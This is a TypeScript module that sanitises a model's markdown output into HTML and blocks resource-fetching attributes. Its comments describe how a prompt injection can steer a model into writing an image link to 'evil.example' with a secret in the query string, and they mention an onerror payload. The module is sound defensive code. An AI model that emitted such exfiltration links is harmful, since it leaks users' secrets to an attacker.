// Model text → safe HTML: marked for markdown, highlight.js for code, DOMPurify last, because
// answers can echo prompt injections from the document (e.g. <img onerror=...>).
import DOMPurify from "dompurify";
import hljs from "highlight.js/lib/core";
import bash from "highlight.js/lib/languages/bash";
import json from "highlight.js/lib/languages/json";
import python from "highlight.js/lib/languages/python";
import { Marked } from "marked";

hljs.registerLanguage("python", python);
hljs.registerLanguage("json", json);
hljs.registerLanguage("bash", bash);

const aliases: Record<string, string> = { repl: "python", py: "python", python3: "python", sh: "bash", shell: "bash" };

export function highlight(code: string, lang = "python"): string {
  const language = aliases[lang] ?? lang;
  if (hljs.getLanguage(language)) return hljs.highlight(code, { language, ignoreIllegals: true }).value;
  return escapeHtml(code);
}

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]!);
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    code({ text, lang }) {
      const tag = (lang ?? "").trim().split(/\s+/)[0] ?? "";
      const label = tag ? `<span class="code-lang">${escapeHtml(tag)}</span>` : "";
      return `<pre class="code">${label}<code class="hljs">${highlight(text, tag || "plaintext")}</code></pre>`;
    },
  },
});

// Answers and model text can carry exfiltration URLs: Python, or a model steered by a prompt
// injection in the document, writes ![chart](https://evil.example/?q=<secret>) and the browser
// would send the secret just by rendering it. Nothing in rendered model output may load by
// itself: attributes that fetch are dropped unless they hold inline data. Links stay (they need
// a click) but send no referrer and open outside the app.
const FETCHING_ATTRIBUTES = new Set(["src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data", "xlink:href", "ping"]);
const INLINE_SOURCE = /^\s*(?:data:(?:image|audio|video)\/|blob:)/i;

DOMPurify.addHook("uponSanitizeAttribute", (_node, data) => {
  if (FETCHING_ATTRIBUTES.has(data.attrName) && !INLINE_SOURCE.test(data.attrValue)) data.keepAttr = false;
});
DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A" && node.hasAttribute("href")) {
    node.setAttribute("rel", "noopener noreferrer");
    node.setAttribute("referrerpolicy", "no-referrer");
    node.setAttribute("target", "_blank");
  }
});

export function renderMarkdown(text: string): string {
  const html = marked.parse(text, { async: false });
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ["style", "form", "input", "button", "iframe", "object", "embed"],
    FORBID_ATTR: ["style"],
  });
}

export function formatBytes(n: number): string {
  if (n < 1024) return `${n} B`;
  const units = ["KB", "MB", "GB"];
  let v = n / 1024;
  let i = 0;
  while (v >= 1024 && i < units.length - 1) {
    v /= 1024;
    i++;
  }
  return `${v < 10 ? v.toFixed(1) : Math.round(v)} ${units[i]}`;
}

export function formatCount(n: number): string {
  if (n < 10_000) return n.toLocaleString("en-US");
  if (n < 1_000_000) return `${(n / 1000).toFixed(n < 100_000 ? 1 : 0)}K`;
  return `${(n / 1_000_000).toFixed(n < 10_000_000 ? 1 : 0)}M`;
}

export function formatMs(ms: number | undefined): string {
  if (ms === undefined) return "";
  if (ms < 1000) return `${Math.round(ms)} ms`;
  if (ms < 60_000) return `${(ms / 1000).toFixed(1)} s`;
  return `${Math.floor(ms / 60_000)} min ${Math.round((ms % 60_000) / 1000)} s`;
}
